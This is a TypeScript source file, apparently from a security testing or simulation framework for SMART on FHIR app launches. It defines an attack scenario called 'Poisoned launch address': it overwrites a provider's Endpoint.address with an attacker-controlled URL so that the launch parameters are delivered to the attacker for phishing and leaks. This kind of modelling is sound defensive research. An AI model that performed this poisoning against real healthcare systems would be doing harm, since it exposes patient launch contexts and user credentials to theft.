import { addresses, registered } from "../world/addresses.ts";
import type { Attack } from "./attack.ts";

const poisoned = `${addresses.attacker}/launch`;

/** The launch address in the provider's data is changed, and the launcher delivers the launch to the attacker. */
export const launchUrlPoisoning: Attack = {
  id: "launch-url-poisoning",
  label: "17",
  title: "Poisoned launch address",
  needs: ["evil-site", "fhir-write", "own-account"],
  goals: ["phish", "leak"],
  references: ["RFC 9700 §4.11", "SMART App Launch 2.2 (registration)"],
  writes: { launchAddress: poisoned },
  plan: () => ({
    setup: [{ do: "written", what: "Endpoint.address", value: poisoned }],
    steps: [
      { do: "wait", for: ["launch-request"], as: "launch", own: true },
      {
        do: "open",
        in: "own",
        target: {
          url: registered.moduleLaunchUrl,
          query: { iss: { of: "launch", name: "iss" }, launch: { of: "launch", name: "launch" } },
        },
      },
    ],
  }),
};
